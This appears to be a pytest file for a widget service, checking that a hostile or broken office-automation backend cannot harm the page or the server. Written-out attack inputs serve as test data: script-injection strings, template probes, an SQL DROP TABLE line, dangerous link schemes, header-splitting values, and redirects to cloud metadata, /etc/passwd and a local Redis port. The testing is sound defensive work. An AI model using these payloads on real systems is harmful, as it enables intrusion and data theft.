"""What a hostile or broken OA may send, by the numbers of the threat list, to every dialect: CASES says where each is.

How it looks on the page is proven over the whole service in tests/test_hostile.py and in a browser.
"""

from __future__ import annotations

import ast
import asyncio
import json
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from string import Template
from typing import Any, Final

import pytest

from demo.installed_oa import PATTERNS
from demo.oa import DemoOA
from demo.oa_plain import SECRET
from demo.oa_world import Canned
from demo.people import SHEN
from tests.widgets.oa.conftest import Clock, Installed, asked_back, who, wire
from tests.widgets.oa.dialects import EKP, EVERY, OA, OPEN, PLAIN, V8, Dialect, common, mapped
from widgets.items import Listing
from widgets.oa import OABadAnswer, OAClient, OAUnavailable
from widgets.oa.outbound import HttpClient, client
from widgets.tickets import Tickets

HERE: Final = "tests/widgets/oa/test_hostile_oa.py"
CONTRACT: Final = "tests/widgets/oa/test_contract.py"
OUTBOUND: Final = "tests/widgets/oa/test_outbound.py"
SERVICE: Final = "tests/test_hostile.py"
BROWSER: Final = "tests/browser/test_safety.py"
CASES: Final[Mapping[int, tuple[str, ...]]] = {
    45: (f"{HERE}::test_words_stay_as_typed", f"{SERVICE}::test_hostile_titles_are_shown_as_typed"),
    46: (f"{HERE}::test_words_stay_as_typed", f"{SERVICE}::test_hostile_titles_are_shown_as_typed"),
    47: (f"{HERE}::test_words_stay_as_typed", f"{SERVICE}::test_hostile_titles_are_shown_as_typed"),
    48: (f"{HERE}::test_words_stay_as_typed", f"{BROWSER}::test_what_people_typed_in_the_oa_stays_text"),
    49: (f"{HERE}::test_what_cannot_be_seen_is_gone",),
    50: (f"{HERE}::test_what_cannot_be_seen_is_gone",),
    51: (f"{HERE}::test_words_stay_as_typed", f"{HERE}::test_a_hostile_link_is_no_link"),
    52: (
        f"{HERE}::test_a_title_without_end_is_cut",
        f"{HERE}::test_a_body_that_is_too_long_is_refused",
        f"{CONTRACT}::test_no_more_than_two_hundred_rows_are_read",
        f"{CONTRACT}::test_nothing_to_do_is_an_empty_list_with_total_zero",
        f"{SERVICE}::test_ten_thousand_rows_are_not_read",
    ),
    53: (
        f"{HERE}::test_broken_text_is_mended_or_costs_its_row",
        f"{CONTRACT}::test_a_list_in_an_encoding_that_nobody_announced_is_read",
        f"{SERVICE}::test_a_bad_row_costs_itself_and_every_link_leads_to_us",
    ),
    54: (
        f"{HERE}::test_a_value_that_is_none_costs_its_row",
        f"{CONTRACT}::test_what_is_no_list_is_never_nothing_to_do",
    ),
    55: (f"{CONTRACT}::test_an_unreadable_arrival_leaves_the_item_without_one",),
    56: (f"{HERE}::test_a_hostile_link_is_no_link", "tests/widgets/test_links.py::"),
    57: (f"{HERE}::test_a_hostile_link_is_no_link", "tests/widgets/test_links.py::"),
    58: (f"{HERE}::test_a_hostile_link_is_no_link", "tests/widgets/test_links.py::"),
    59: (f"{HERE}::test_a_hostile_link_is_no_link",),
    60: ("tests/test_products.py::test_a_token_inside_an_oas_link_reaches_no_page_of_ours",),
    61: (
        f"{HERE}::test_an_encoding_that_was_not_asked_for_is_refused",
        f"{HERE}::test_headers_without_end_are_given_up",
        f"{CONTRACT}::test_a_compressed_answer_is_refused_unread",
        f"{OUTBOUND}::test_a_body_that_drips_is_given_up_at_the_deadline",
        f"{OUTBOUND}::test_a_body_without_end_is_cut_at_the_cap",
        f"{OUTBOUND}::test_a_body_shorter_than_announced_is_unreachable",
    ),
    62: (f"{HERE}::test_nobody_is_asked_where_a_redirect_leads",),
    63: (
        f"{CONTRACT}::test_what_is_no_list_is_never_nothing_to_do",
        f"{CONTRACT}::test_each_status_has_its_meaning",
        f"{SERVICE}::test_an_answer_without_a_list_is_a_failure_and_never_an_empty_card",
    ),
    64: (
        f"{CONTRACT}::test_another_persons_row_is_dropped_and_counted",
        f"{CONTRACT}::test_a_list_of_another_person_is_a_bad_answer",
        f"{SERVICE}::test_an_oa_that_tells_about_somebody_else_is_counted_and_alarmed",
    ),
    65: (
        f"{HERE}::test_a_number_that_cannot_be_is_unknown",
        f"{SERVICE}::test_the_same_item_twice_is_shown_once",
        f"{SERVICE}::test_a_count_that_is_none_is_a_question_mark",
    ),
}
"""Case of the threat list, D → the tests that try it."""


@pytest.fixture(params=EVERY, ids=lambda each: each.kind)
def dialect(request: pytest.FixtureRequest) -> Dialect:
    return request.param  # type: ignore[no-any-return]


@pytest.fixture
def oa(dialect: Dialect, installed: Installed, tickets: Tickets) -> DemoOA:
    made = installed(dialect.kind)
    made.world.asks_back, made.world.way_back = "http://widgets.example/oa/main-oa", wire(asked_back(tickets))
    return made


@pytest.fixture
def source(dialect: Dialect, oa: DemoOA, http: HttpClient, clock: Clock, tickets: Tickets) -> OAClient:
    return dialect.connect(oa, common(http, clock, dialect.context), tickets)


def says(oa: DemoOA, dialect: Dialect, body: bytes, status: int = 200, **headers: str) -> None:
    sent = tuple((name.replace("_", "-"), value) for name, value in headers.items())
    oa.world.canned[dialect.todos.format(account=SHEN.account, login=SHEN.login)] = Canned(body, status, sent)


async def titles(oa: DemoOA, source: OAClient, dialect: Dialect, *told: Any) -> list[str]:
    """What becomes of such titles, the good row beside them left out."""
    rows = [dialect.todo(id=f"r{n}", title=title) for n, title in enumerate(told)]
    says(oa, dialect, dialect.answer(*rows, dialect.todo(id="good", title="好")))
    found = {item.id: item.title for item in (await source.todos(who(SHEN))).items}
    assert found.pop("good") == "好"
    return [found[f"r{n}"] for n, _ in enumerate(told) if f"r{n}" in found]


def test_every_case_is_tried_somewhere() -> None:
    """Cases 45 to 65, and every test that the table names is there."""
    assert list(CASES) == list(range(45, 66))
    named = {each for tests in CASES.values() for each in tests}
    there = {
        f"{file}::{node.name}"
        for file in {each.partition("::")[0] for each in named}
        for node in ast.walk(ast.parse(Path(file).read_text("utf-8")))
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)
    } | {f"{file}::" for file in {each.partition("::")[0] for each in named}}
    assert named - there == set()


TYPED = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>"),
    *("</title></textarea>-->]]>", "\" autofocus onfocus=alert(1) x='", "' style=position:fixed `"),
    *(
        '<div hx-get="//evil.example" hx-trigger=load>',
        "{{7*7}}",
        "${7*7}",
        "{% raw %}",
        "{row.id}",
        "{x|md5}",
    ),
    *("<div>" * 30, "倌息科", "&lt;b&gt;", "javascript:alert(1)", "'; DROP TABLE x; --"),
)


async def test_words_stay_as_typed(oa: DemoOA, source: OAClient, dialect: Dialect) -> None:
    assert await titles(oa, source, dialect, *TYPED) == list(TYPED)


async def test_what_cannot_be_seen_is_gone(oa: DemoOA, source: OAClient, dialect: Dialect) -> None:
    told = (
        "\u202egnp.exe\u2066x\u2069",
        "a\u200b\ufeff\u2060b",
        "x\U000e0041\U000e0042",
        "e" + "\u0301" * 500,
        "\u3164 ",
    )
    assert await titles(oa, source, dialect, *told) == ["gnp.exex", "ab", "x", "e\u0301\u0301"]


async def test_a_title_without_end_is_cut(oa: DemoOA, source: OAClient, dialect: Dialect) -> None:
    assert await titles(oa, source, dialect, "长" * 100_000) == ["长" * 199 + "…"]


async def test_a_body_that_is_too_long_is_refused(oa: DemoOA, source: OAClient, dialect: Dialect) -> None:
    says(oa, dialect, dialect.answer(dialect.todo(title="x" * 1_100_000)))
    with pytest.raises(OABadAnswer, match="longer than"):
        await source.todos(who(SHEN))


async def test_broken_text_is_mended_or_costs_its_row(oa: DemoOA, source: OAClient, dialect: Dialect) -> None:
    told = ("坏\ud800字", "一\x00二", "三\x85四\x9b[31m", "五\r\nSet-Cookie: x")
    shown = await titles(oa, source, dialect, *told)
    assert shown == ["坏\ufffd字", "一 二", "三 四 [31m", "五 Set-Cookie: x"]
    body = dialect.answer(dialect.todo(title="@@"))
    says(oa, dialect, body.replace(b"@@", "断在这里的标题".encode()[:-1]))
    (item,) = (await source.todos(who(SHEN))).items
    assert item.title == "断在这里的标\ufffd"


@pytest.mark.parametrize(
    "raw", [b"NaN", b"-Infinity", b"1e400", b"9" * 5000, b'{"a":1,"a":2}', b"[[]]", b"null", b"1.5"]
)
async def test_a_value_that_is_none_costs_its_row(
    oa: DemoOA, source: OAClient, dialect: Dialect, raw: bytes
) -> None:
    """Or the whole answer is refused; a number that a browser would round never becomes an id."""
    row = {**dialect.todo(id="@@"), "__proto__": {"x": 1}, "constructor": "x"}
    body = dialect.answer(row, dialect.todo(id="good"))
    quoted = b'\\"@@\\"' if b'\\"@@\\"' in body else b'"@@"'
    inner = raw.replace(b'"', b'\\"') if quoted.startswith(b"\\") else raw
    says(oa, dialect, body.replace(quoted, inner))
    listing = await source.todos(who(SHEN))
    assert ([item.id for item in listing.items], listing.dropped) == (["good"], 1)


# Links that come in the answer


def _linked(oa: DemoOA, usual: dict[str, Any], tickets: Tickets) -> OAClient:
    names = dict.fromkeys(("oa", "oa_here", "push", "secret"), '""')
    text = Template((PATTERNS / "rest.toml").read_text("utf-8")).substitute(names, app='"widgets"')
    return mapped(text.replace('{ text = "/todo/{row.no}" }', '"href"'), usual, app=SECRET)


LINKED = ((EKP, "link"), (V8, "webUrl"), (replace(PLAIN, connect=_linked), "href"))
"""The dialects whose rows bring an address along; the others build it from an id, which must be a plain one."""
NO_LINKS = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " \tjavascript:alert(1)", "java\nscript:alert(1)"),
    *(
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "blob:https://x/1",
        "intent://x",
        "about:blank",
    ),
    *(f"https://evil.example\\@{OPEN[8:]}/x", f"https://{OPEN[8:]}@evil.example", "https:///evil.example"),
    *(
        "//evil.example/x",
        "/\\evil.example",
        "\\\\evil.example",
        "https://evil%2eexample/x",
        "https://oa。evil.example",
    ),
    *(f"{OPEN.rpartition(':')[0]}:99999/x", "https://[::ffff:127.0.0.1]/x", "https://0x7f.1/x"),
    *("https://oa.hospital.example.:8443/x", f"http{OPEN[5:]}/x", "https://oa.hospital.example/x"),
    *(
        f"{OPEN}.evil.example/x",
        f"{OPEN}/x\r\nSet-Cookie: a=b",
        f"{OPEN}/x%0d%0aSet-Cookie:a",
        f"{OPEN}/\x00",
    ),
    *("https://widgets.hospital.example/auth/logout", "https://widgets.hospital.example/audit", "x" * 5000),
    *("https://оa.hospital.example:8443/x", "ftp://oa.hospital.example:8443/x", "http://169.254.169.254/"),
)


@pytest.mark.parametrize(("dialect", "field"), LINKED, ids=[each.kind for each, _ in LINKED])
async def test_a_hostile_link_is_no_link(oa: DemoOA, source: OAClient, dialect: Dialect, field: str) -> None:
    """The item stays, without an address; the good link beside it stays a link."""
    rows = [{**dialect.todo(id=f"r{n}"), field: link} for n, link in enumerate(NO_LINKS)]
    says(oa, dialect, dialect.answer(*rows, {**dialect.todo(id="good"), field: f"{OPEN}/x?a=1"}))
    items = {item.id: item.url for item in (await source.todos(who(SHEN))).items}
    assert (items.pop("good"), len(items)) == (f"{OPEN}/x?a=1", len(NO_LINKS))
    assert {
        NO_LINKS[int(id[1:])]: url for id, url in items.items() if url and not url.startswith(f"{OPEN}/")
    } == {}
    below = [NO_LINKS[int(id[1:])] for id, url in items.items() if url]
    assert below == []


# The wire


@pytest.mark.parametrize("encoding", ["br", "gzip, gzip", "deflate", "zstd", "x-unknown"])
async def test_an_encoding_that_was_not_asked_for_is_refused(
    oa: DemoOA, source: OAClient, dialect: Dialect, encoding: str
) -> None:
    says(oa, dialect, dialect.answer(dialect.todo()), Content_Encoding=encoding)
    with pytest.raises(OABadAnswer, match="encoded"):
        await source.todos(who(SHEN))


WHITHER = (
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "redis://127.0.0.1:6379/",
    f"{OA}/other",
    "//evil",
)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_nobody_is_asked_where_a_redirect_leads(
    oa: DemoOA, source: OAClient, dialect: Dialect, asked: list[Any], status: int
) -> None:
    for whither in WHITHER:
        says(oa, dialect, dialect.answer(dialect.todo()), status, Location=whither)
        with pytest.raises(OABadAnswer):
            await source.todos(who(SHEN))
    assert [] == [
        each for each in (str(one.url) for one in asked) if not each.startswith(OA) or each.endswith("/other")
    ]


async def test_headers_without_end_are_given_up() -> None:
    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n")
        for n in range(100):
            writer.write(b"X-%d: %s\r\n" % (n, b"x" * 65536))
        writer.write(b"\r\n[]")
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
        address = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        async with client([address], deadline=2.0) as http:
            usual: dict[str, Any] = {**common(http, Clock(), ""), "base_url": address, "open_url": address}
            with pytest.raises(OAUnavailable):
                await EKP.connect(None, usual, None).todos(who(SHEN))  # type: ignore[arg-type]


@pytest.mark.parametrize("lie", ["-7", "1", "1e9", "99999999999", '"many"', "null", "[]"])
async def test_a_number_that_cannot_be_is_unknown(
    oa: DemoOA, source: OAClient, dialect: Dialect, lie: str
) -> None:
    """The list stays, and no invented number stands beside it. E9 is asked apart, V5 counts only long lists."""
    text = json.dumps(dialect.listed([dialect.todo(id="1"), dialect.todo(id="2")]))
    quote = '\\"' if '\\"' in text else '"'
    told = lie.replace('"', quote)
    for name in ("count", "total"):
        text = text.replace(f"{quote}{name}{quote}: 2", f"{quote}{name}{quote}: {told}")
    says(oa, dialect, text.encode())
    listing: Listing[Any] = await source.todos(who(SHEN))
    known = {"weaver-e9": 6, "seeyon-v5": 2, "rest": 2}.get(dialect.kind)
    assert (len(listing.items), listing.total) == (2, known)
